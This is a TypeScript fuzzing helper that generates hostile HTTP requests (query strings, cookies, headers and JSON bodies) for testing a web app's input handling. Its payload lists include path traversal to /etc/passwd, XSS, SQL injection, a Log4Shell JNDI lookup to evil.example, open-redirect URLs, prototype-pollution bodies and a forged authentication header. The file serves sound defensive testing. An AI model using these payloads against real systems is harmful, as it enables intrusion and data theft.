// fast-check arbitraries for hostile HTTP input: query strings (encoded and raw), cookies, header
// values, JSON and form bodies. Everything generated is something a client CAN send (Node's own
// HTTP client refuses header values with control characters and paths with spaces, so those are
// out: the existing malformed-input tests send such bytes on raw sockets).
import { randomBytes } from "node:crypto";
import fc from "fast-check";

/** Well-formed 256-bit base64url values (the shape of every secret and nonce of ours). */
export const secretShaped = fc.uint8Array({ minLength: 32, maxLength: 32 }).map((bytes) => Buffer.from(bytes).toString("base64url"));

/** Strings that have broken parsers and redirect checks elsewhere. */
export const nastyString = fc.constantFrom(
  "",
  " ",
  "null",
  "undefined",
  "NaN",
  "-1",
  "1e309",
  "true",
  "[]",
  "{}",
  "__proto__",
  "constructor",
  "../../etc/passwd",
  "..%2f..%2f",
  "%2e%2e%2f",
  "//evil.example",
  "/\\evil.example",
  "\\\\evil.example",
  "/%2f%2fevil.example",
  "/%5cevil.example",
  "https://evil.example/",
  "http://evil.example@news.localhost/",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "<script>alert(1)</script>",
  "'; DROP TABLE sites; --",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "\u202e",
  "\ufeff",
  "\ud83d\ude00",
  "é",
  "%",
  "%zz",
  "%ff%fe",
  "%00",
  "%c0%af",
  "a".repeat(3000),
);

/** A character Node's HTTP client accepts in a header value (the server must cope with all of them). */
const headerChar = fc.oneof(
  { weight: 10, arbitrary: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)) },
  { weight: 1, arbitrary: fc.constant("\t") },
  { weight: 1, arbitrary: fc.integer({ min: 0x80, max: 0xff }).map((c) => String.fromCharCode(c)) },
);
export const headerValue = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: headerChar, maxLength: 120 }) },
  { weight: 1, arbitrary: nastyString.filter((s) => /^[\t\x20-\x7e\x80-\xff]*$/.test(s)) },
);

/**
 * Printable ASCII sent raw in a request path (unencoded quotes, brackets, "%", "#"…). Raw bytes
 * outside ASCII are refused by Node's HTTP parser before the app sees them (malformed-input.test.ts).
 */
const rawPathChar = fc.integer({ min: 0x21, max: 0x7e }).map((c) => String.fromCharCode(c));

const anyText = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 2, arbitrary: nastyString },
);

/** A query string (with its "?", or empty): encoded pairs, raw fragments, repeated and unknown keys. */
export function queryString(keys: readonly string[]) {
  const key = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...keys) }, { weight: 1, arbitrary: anyText });
  const value = fc.oneof({ weight: 2, arbitrary: secretShaped }, { weight: 3, arbitrary: anyText });
  const encodedPair = fc.tuple(key, value).map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`);
  const rawFragment = fc.string({ unit: rawPathChar, maxLength: 40 });
  const part = fc.oneof({ weight: 5, arbitrary: encodedPair }, { weight: 1, arbitrary: rawFragment });
  return fc.array(part, { maxLength: 6 }).map((parts) => (parts.length === 0 ? "" : `?${parts.join("&")}`));
}

/** A Cookie header: our cookie names (and others) with secret-shaped or garbage values, or a garbage header. */
export function cookieHeader(names: readonly string[]) {
  const name = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...names) }, { weight: 1, arbitrary: fc.string({ unit: headerChar, minLength: 1, maxLength: 20 }) });
  const value = fc.oneof(
    { weight: 3, arbitrary: secretShaped },
    { weight: 1, arbitrary: secretShaped.map((s) => `${s}.${Buffer.from("/", "utf8").toString("base64url")}`) },
    { weight: 3, arbitrary: headerValue },
  );
  const pair = fc.tuple(name, value).map(([n, v]) => `${n}=${v}`);
  return fc.oneof(
    { weight: 5, arbitrary: fc.array(pair, { maxLength: 5 }).map((pairs) => pairs.join("; ")) },
    { weight: 1, arbitrary: headerValue },
  );
}

/** A router state tree as Next's client router sends it (URI-encoded JSON) for one of this app's pages. */
const routerState = (children: unknown) => encodeURIComponent(JSON.stringify(["", { children }, null, null, 1]));

/**
 * Next-Router-State-Tree values (React Server Components requests): valid trees, near misses
 * (wrong element types, extra elements, nullable where Next wants absent), any JSON, broken
 * percent-encoding, header garbage, two headers joined, and trees deep enough to overflow the
 * stack of Next's recursive validator while still under its size limit.
 */
const routerStateTree = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(routerState(["__PAGE__", {}]), routerState(["articles", { children: [["articleSlug", "welcome", "d", null], { children: ["__PAGE__", {}] }] }]), routerState(["signin", { children: ["__PAGE__", {}, null, "refetch"] }])) },
  { weight: 2, arbitrary: fc.constantFrom('["",{}]', '["",{},null,null,null,"x",1]', '["",{},null,null,null,null]', '[["id","1","x",null],{}]', '["",{"children":"x"}]', '["",{},["/"]]', '["",{},null,"reload"]', '["",{},null,null,"1"]', "[]", "{}", "null", '["",{}],["",{}]') },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((value) => encodeURIComponent(JSON.stringify(value))) },
  { weight: 2, arbitrary: headerValue },
  { weight: 1, arbitrary: fc.constantFrom("%", "%E0%A4%A", "%ZZ", "%5B", "%5B%22%22%2C%7B%7D%5D%00", "[".repeat(5000)) },
  { weight: 1, arbitrary: fc.integer({ min: 65, max: 900 }).map((depth) => `${'["",{"c":'.repeat(depth)}["",{}]${"}]".repeat(depth)}`) },
);

/** Extra request headers a hostile client may send. */
export function hostileHeaders(options: { ownOrigin: string }) {
  const maybe = (arbitrary: fc.Arbitrary<string>) => fc.option(arbitrary, { nil: undefined, freq: 2 });
  return fc
    .record(
      {
        origin: maybe(fc.oneof(fc.constant(options.ownOrigin), fc.constant("null"), fc.constant("https://evil.example"), headerValue)),
        referer: maybe(fc.oneof(fc.constant(`${options.ownOrigin}/`), fc.constant("https://evil.example/"), headerValue)),
        "sec-fetch-site": maybe(fc.oneof(fc.constantFrom("same-origin", "same-site", "cross-site", "none"), headerValue)),
        "sec-fetch-mode": maybe(fc.oneof(fc.constantFrom("navigate", "cors", "no-cors", "same-origin"), headerValue)),
        "sec-fetch-dest": maybe(fc.oneof(fc.constantFrom("document", "empty", "iframe", "image"), headerValue)),
        accept: maybe(fc.oneof(fc.constantFrom("text/html", "application/json", "*/*"), headerValue)),
        "x-forwarded-for": maybe(fc.oneof(fc.ipV4(), fc.ipV6(), fc.tuple(headerValue, fc.ipV4()).map(([a, b]) => `${a}, ${b}`), headerValue)),
        "x-forwarded-proto": maybe(fc.oneof(fc.constantFrom("https", "http", "https, http", "ftp"), headerValue)),
        "x-forwarded-host": maybe(fc.oneof(fc.constantFrom("evil.example", "evil.example:443", "news.localhost"), headerValue)),
        "x-real-ip": maybe(fc.oneof(fc.ipV4(), headerValue)),
        "user-agent": maybe(headerValue),
        rsc: maybe(fc.constantFrom("1", "0")),
        "next-router-prefetch": maybe(fc.constantFrom("1", "0")),
        "next-router-state-tree": maybe(routerStateTree),
        "x-mss-viewer": maybe(fc.oneof(headerValue, fc.constant(Buffer.from(JSON.stringify({ status: "authenticated", user: { id: "x" } })).toString("base64url")))),
      },
      { requiredKeys: [] },
    )
    .map((record) => Object.fromEntries(Object.entries(record).filter((entry): entry is [string, string] => entry[1] !== undefined)));
}

/** JSON bodies: any JSON value, objects with our field names, prototype keys, deep nesting. */
export function jsonBody(fieldNames: readonly string[]) {
  const field = fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...fieldNames) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }) });
  const ourObject = fc.dictionary(field, fc.jsonValue({ maxDepth: 3 }), { maxKeys: 4 }).map((value) => JSON.stringify(value));
  const deep = fc.integer({ min: 1, max: 3000 }).map((depth) => `${"[".repeat(depth)}${"]".repeat(depth)}`);
  return fc.oneof(
    { weight: 4, arbitrary: ourObject },
    { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((value) => JSON.stringify(value)) },
    { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 80 }) },
    { weight: 1, arbitrary: fc.constantFrom('{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"x":1}}}', "{", '{"a":1,}', "\ufeff{}", "") },
    { weight: 1, arbitrary: deep },
  );
}

export const jsonContentType = fc.oneof(
  { weight: 6, arbitrary: fc.constant("application/json") },
  { weight: 1, arbitrary: fc.constantFrom("application/json; charset=utf-8", "application/merge-patch+json", "APPLICATION/JSON", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "") },
  { weight: 1, arbitrary: headerValue },
);

/** A random client IP, so per-IP rate limits of one case never decide another's answer. */
export function randomIp(): string {
  const bytes = randomBytes(3);
  return `10.${bytes[0]}.${bytes[1]}.${1 + ((bytes[2] ?? 0) % 254)}`;
}
